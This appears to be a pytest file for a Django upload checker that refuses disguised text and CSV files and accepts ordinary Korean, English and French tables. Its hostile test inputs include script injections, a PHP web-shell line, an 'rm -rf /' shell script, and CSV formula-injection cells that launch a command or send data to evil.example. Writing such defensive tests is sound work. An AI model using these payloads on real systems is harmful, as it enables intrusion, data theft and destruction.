"""Plain text and tables are what they say, in letters that can be read, and work nothing out."""

import pytest
from django.core.files.base import ContentFile

from core.uploads.documents import checked_document
from core.uploads.refusals import UploadRefused
from tests.core.made import packages, pictures

TABLE = "도시,정책,값\n서울,생활임금,10766\n"

HOSTILE = {
    "txt: it is a web page": ("txt", b"<!DOCTYPE html><script>alert(1)</script>", "not_text"),
    "txt: it is a web page in capitals": ("txt", b"<HTML><BODY ONLOAD=alert(1)>", "not_text"),
    "txt: it is a web page behind empty lines": ("txt", b"\n\r\n \t<html>", "not_text"),
    "txt: it is a web page behind a mark of its encoding": ("txt", "\ufeff<html>".encode(), "not_text"),
    "txt: it is a web page behind a comment": ("txt", b"<!-- x --><html>", "not_text"),
    "txt: it is a web page in UTF-16": ("txt", "<html><script>".encode("utf-16"), "not_text"),
    "txt: it begins with a script": ("txt", b"<script src=//evil.example></script>", "not_text"),
    "txt: it is a drawing with a script": ("txt", b'<svg xmlns="x" onload="alert(1)">', "not_text"),
    "txt: it is XML": ("txt", b'<?xml version="1.0"?><svg/>', "not_text"),
    "txt: it is a program in PHP": ("txt", b"<?php system($_GET['c']); ?>", "not_text"),
    "txt: it is a program for a server": ("txt", b"<%= 7*7 %>", "not_text"),
    "txt: it is a program for a shell": ("txt", b"#!/bin/sh\nrm -rf /\n", "not_text"),
    "txt: it is a picture and a script": ("txt", b"GIF89a=1;alert(1)", "not_text"),
    "txt: it is a document of Word's old form": ("txt", b"{\\rtf1 x}", "not_text"),
    "txt: it is a PDF": ("txt", b"%PDF-1.7\n%%EOF", "not_text"),
    "txt: it is PostScript": ("txt", b"%!PS\n(x) run", "not_text"),
    "txt: it has a NUL in it": ("txt", b"a\x00b", "not_text"),
    "txt: it steers a terminal": ("txt", b"\x1b]0;x\x07 text", "not_text"),
    "txt: it is a program": ("txt", packages.EXE, "encoding"),
    "txt: it is an archive": ("txt", packages.zipped({"x": "x" * 99}), "encoding"),
    "txt: it is a picture": ("txt", pictures.picture("PNG"), "encoding"),
    "txt: its letters are those of an office in Paris": ("txt", "Société à Évry".encode("cp1252"), "encoding"),
    "txt: a name in it could be Hangul or not": ("txt", "Ávila".encode("cp1252"), "encoding"),
    "txt: it is in UTF-16 and does not say so": ("txt", "서울 text".encode("utf-16-le"), None),
    "txt: half a letter is missing": ("txt", "서울".encode("utf-16")[:-1], "encoding"),
    "txt: it is empty": ("txt", b"", "empty"),
    "txt: it is larger than 20 MB": ("txt", b"a" * (20 * 1024 * 1024 + 1), "too_large"),
    "csv: it is a web page": ("csv", b"<html>,<script>", "not_text"),
    "csv: it is a workbook": ("csv", packages.office("xlsx"), "encoding"),
    "csv: a cell runs a command": ("csv", b"a,b\n=cmd|'/C calc'!A0,1\n", "formulas"),
    "csv: a cell runs a command behind a plus": ("csv", b"a\n+cmd|'/C calc'!A0\n", "formulas"),
    "csv: a cell runs a command behind a minus": ("csv", b"a\n-2+3+cmd|' /C calc'!A0\n", "formulas"),
    "csv: a cell sends the row to someone": ("csv", b'a,"=HYPERLINK(""https://evil.example/""&A1)"\n', "formulas"),
    "csv: a cell adds up, as Lotus wrote it": ("csv", b"a;@SUM(1+1)\n", "formulas"),
    "csv: a cell begins with a wide sign of equality": ("csv", "a,＝1+1\n".encode(), "formulas"),
    "csv: a cell works something out behind a space": ("csv", b"a, =1+1\n", "formulas"),
    "csv: a cell works something out behind a quote": ("csv", b"a,'=1+1\n", "formulas"),
    "csv: a cell of a table with tabs works something out": ("csv", b"a\t=1+1\n", "formulas"),
    "csv: a cell works something out, in Korean letters": ("csv", "서울,=1+1".encode("cp949"), "formulas"),
}
HOSTILE["txt: it is in UTF-16 and does not say so"] = ("txt", "text".encode("utf-16-le"), "not_text")


@pytest.mark.parametrize("made", HOSTILE.values(), ids=HOSTILE)
def test_a_text_is_refused_when(made):
    extension, content, code = made
    with pytest.raises(UploadRefused) as refusal:
        checked_document(ContentFile(content, f"설문.{extension}"))
    assert refusal.value.code == code
    assert f"설문.{extension}" in refusal.value.messages[0]


GOOD = {
    "a table in UTF-8": ("csv", TABLE.encode()),
    "a table in UTF-8, as Excel marks it": ("csv", TABLE.encode("utf-8-sig")),
    "a table with semicolons and numbers below nought": ("csv", b"a;b\n-5;+82-2-120\n-0,5;@dwcn\n"),
    "a table with a line drawn in it": ("csv", "값\n=====\n-----\n".encode()),
    "a text in English": ("txt", b"The living wage.\r\n\r\nIn 2015 ...\x0c"),
    "a text in French": ("txt", "Société à Évry".encode()),
    "a text that begins with a bracket": ("txt", "<붙임 1> 서울시 생활임금\n".encode()),
    "a text that begins with a title in brackets": ("txt", b"<Annex 1> The ordinance\n"),
    "a text about a generation": ("txt", "MZ세대 노동자의 <script> 이야기".encode()),
}


@pytest.mark.parametrize("made", GOOD.values(), ids=GOOD)
def test_a_text_is_taken_as_it_is(made):
    extension, content = made
    kept = checked_document(ContentFile(content, f"설문 결과.{extension}"))
    assert (kept.read(), kept.name) == (content, f"설문_결과.{extension}")


@pytest.mark.parametrize("encoding", ["cp949", "euc-kr", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_table_of_an_office_in_seoul_is_kept_so_that_excel_reads_it_everywhere(encoding):
    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(encoding, b"")
    kept = checked_document(ContentFile(mark + TABLE.encode(encoding), "표.csv"))
    assert kept.read() == TABLE.encode("utf-8-sig")


def test_a_long_cell_made_to_keep_the_check_busy_does_not():
    cell = b"-" + b"|" * 2_000_000
    assert checked_document(ContentFile(cell, "a.csv")).size == len(cell)
